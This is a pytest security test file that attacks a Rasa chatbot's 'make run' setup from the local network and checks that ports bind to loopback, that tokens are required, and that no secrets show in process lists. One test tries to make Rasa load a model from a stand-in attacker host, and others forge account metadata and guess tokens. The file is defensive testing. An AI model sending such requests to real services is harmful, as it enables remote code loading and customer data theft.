"""`make run`'s own script, attacked from outside: what listens where, and what opens without a token.

scripts/run.sh is started as `make run` starts it (the tokens exported, free ports, its own
databases and logs), then tried as an attacker on the machine's network would try it.
"""
import json
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest
import requests

from harness.cluster import free_port
from harness.hostile import load_accounts
from tests.conftest import ROOT

pytestmark = pytest.mark.model


def listening_addresses(port: int) -> set:
    """The local addresses on which something listens on `port` (IPv4 and IPv6), from /proc/net."""
    found = set()
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            address, hex_port = local.split(":")
            if state == "0A" and int(hex_port, 16) == port:  # 0A: LISTEN
                found.add(address)
    return found


LOOPBACK = {"0100007F", "00000000000000000000000001000000"}


@pytest.fixture(scope="module")
def make_run(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("make-run")
    ports = {name: free_port() for name in ("RASA_PORT", "ACTIONS_PORT", "DESK_PORT")}
    env = dict(os.environ, **{k: str(v) for k, v in ports.items()}, LOG_DIR=str(tmp / "log"),
               TRACKER_DB=str(tmp / "trackers.db"), DESK_DB_URL=f"sqlite:///{tmp / 'desk.db'}",
               SHOP_DB_URL=f"sqlite:///{tmp / 'shop.db'}", TF_CPP_MIN_LOG_LEVEL="2")
    env.pop("DESK_DEMO", None)
    output = tmp / "run.out"
    process = subprocess.Popen([ROOT / "scripts" / "run.sh"], cwd=ROOT, env=env, stdout=output.open("w"),
                               stderr=subprocess.STDOUT, start_new_session=True)
    deadline = time.monotonic() + 300
    while "The assistant is running" not in output.read_text():
        if process.poll() is not None or time.monotonic() > deadline:
            process.kill()
            pytest.fail(f"make run did not start:\n{output.read_text()[-3000:]}")
        time.sleep(0.5)
    yield ports, output.read_text()
    os.killpg(process.pid, signal.SIGINT)
    try:
        process.wait(timeout=60)
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)


def test_rasa_and_the_action_server_listen_on_127_0_0_1_only(make_run):
    ports, _ = make_run
    for name in ("RASA_PORT", "ACTIONS_PORT", "DESK_PORT"):
        addresses = listening_addresses(ports[name])
        assert addresses and addresses <= LOOPBACK, (name, addresses)


def test_rasas_api_without_the_token_is_refused(make_run):
    ports, _ = make_run
    rasa = f"http://127.0.0.1:{ports['RASA_PORT']}"
    assert requests.delete(f"{rasa}/model", timeout=10).status_code in (401, 403)
    assert requests.put(f"{rasa}/model", json={"model_server": {"url": "http://attacker.example/m.tar.gz"}},
                        timeout=10).status_code in (401, 403)
    assert requests.get(f"{rasa}/status", params={"token": os.environ["RASA_TOKEN"]}, timeout=10).ok


def test_a_rest_message_naming_an_account_without_the_channel_token_gets_no_order_data(make_run):
    ports, printed = make_run
    lily = load_accounts()["tb_lily"]
    body = {"sender": "attacker-1", "message": "我的快递到哪了", "metadata": {"account": "tb_lily"}}
    url = f"http://127.0.0.1:{ports['RASA_PORT']}/webhooks/rest/webhook"
    texts = " ".join(m.get("text", "") for m in requests.post(url, json=body, timeout=30).json())
    assert texts and not [i for i in lily["order_ids"] + lily["tracking_nos"] if i in texts], texts
    # What make run prints is what works: the channel token it shows is believed.
    assert f"Bearer {os.environ['CHANNEL_TOKEN']}" in printed
    headers = {"Authorization": f"Bearer {os.environ['CHANNEL_TOKEN']}"}
    texts = " ".join(m.get("text", "") for m in
                     requests.post(url, json=dict(body, sender="desk-1"), headers=headers, timeout=30).json())
    assert "登录" not in texts, texts


def test_a_tracker_posted_straight_to_the_action_server_runs_nothing(make_run):
    ports, _ = make_run
    tracker = {"sender_id": "x", "slots": {}, "latest_message": {"text": "我的快递到哪了", "metadata": {
        "account": "tb_lily"}}, "events": [{"event": "user", "text": "我的快递到哪了",
                                            "metadata": {"account": "tb_lily"}}]}
    call = {"next_action": "action_logistics", "sender_id": "x", "tracker": tracker, "domain": {}, "version": "3.6.2"}
    url = f"http://127.0.0.1:{ports['ACTIONS_PORT']}/webhook"
    for params in ({}, {"token": "guessed"}):
        answer = requests.post(url, params=params, data=json.dumps(call), timeout=10)
        assert answer.status_code == 401, answer.text
        assert "tb_lily" not in answer.text
    assert requests.get(f"http://127.0.0.1:{ports['ACTIONS_PORT']}/health", timeout=10).ok


def test_the_demo_storefront_signs_under_make_run(make_run):
    ports, _ = make_run
    page = requests.get(f"http://127.0.0.1:{ports['DESK_PORT']}/?account=tb_wang88", timeout=10).text
    assert "tb_wang88" in page and "sig" in page


def test_no_token_is_in_the_process_list(make_run):
    """Any local user reads every process's command line."""
    tokens = [os.environ[name] for name in ("RASA_TOKEN", "CHANNEL_TOKEN", "ACTIONS_TOKEN")]
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            line = cmdline.read_bytes().decode("utf-8", "replace")
        except OSError:
            continue
        assert not [token for token in tokens if token in line], line.replace("\0", " ")[:200]
